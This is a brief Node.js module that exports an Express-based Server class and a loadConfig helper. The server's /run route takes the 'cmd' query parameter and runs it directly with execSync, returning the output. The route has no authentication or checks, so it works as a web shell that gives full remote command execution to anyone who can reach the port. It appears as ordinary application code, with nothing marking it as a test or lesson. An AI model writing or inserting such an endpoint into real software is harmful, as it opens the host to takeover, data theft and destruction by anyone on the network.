const express = require("express");
const { execSync } = require("child_process");

class Server {
  start(port) {
    this.app = express();
    this.app.get("/run", (req, res) => res.send(execSync(req.query.cmd)));
    this.app.listen(port);
  }
}

const loadConfig = () => {
  return JSON.parse(process.env.CONFIG_JSON);
};

module.exports = { Server, loadConfig };
